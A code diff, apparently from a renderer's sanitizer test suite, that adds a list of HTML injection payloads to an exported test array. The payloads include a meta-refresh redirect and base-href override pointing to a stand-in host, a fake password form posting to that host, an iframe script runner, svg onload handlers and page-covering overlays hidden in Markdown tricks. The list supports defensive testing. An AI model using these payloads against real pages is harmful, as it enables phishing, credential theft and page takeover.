@@ -60,9 +60,25 @@ const STARTS = [
   '<div\nclass="cl-nav',
 ];
 
+/** Texts that try to leave an attribute in order to lead away, to cover the page, or to ask for a password. */
+const LEADS = [
+  '"><meta http-equiv="refresh" content="0;url=https://foreign.invalid/">',
+  '"><style>*{display:none!important}</style>',
+  '"><form action="https://foreign.invalid/"><input type=password name=p autofocus><button>Sign in</button></form>',
+  '"><base href="https://foreign.invalid/">',
+  `"></code></pre><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  '<div class="fixed inset-0 top-0 left-0 h-screen w-screen z-100 z-50 z-10 bg-b-1 bg-white">cover</div>',
+  '<div\nclass="fixed inset-0 h-screen w-screen z-10 bg-b-1">\n\ncover\n\n</div>',
+  '```x&#32;fixed&#32;inset-0&#32;h-screen&#32;w-screen&#32;z-10&#32;bg-b-1\ncover\n```',
+  '```x\ffixed\finset-0\fh-screen\fw-screen\fz-10\fbg-b-1\ncover\n```',
+  '<div>\n```\n<p class="fixed inset-0 h-screen w-screen z-10 bg-b-1">cover</p>\n```\n</div>',
+  '[^1]\n\n[^1]:\n\n    <p class="fixed inset-0 h-screen w-screen z-10 bg-b-1">cover</p>',
+];
+
 export const PAYLOADS: readonly string[] = [
   ...ENDS,
   ...STARTS,
+  ...LEADS,
   // Attributes that hold `>` or leave their quotes.
   `[x](https://a "><svg onload=${RUN}>")`,
   `[x](https://a '><svg onload=${RUN}>')`,
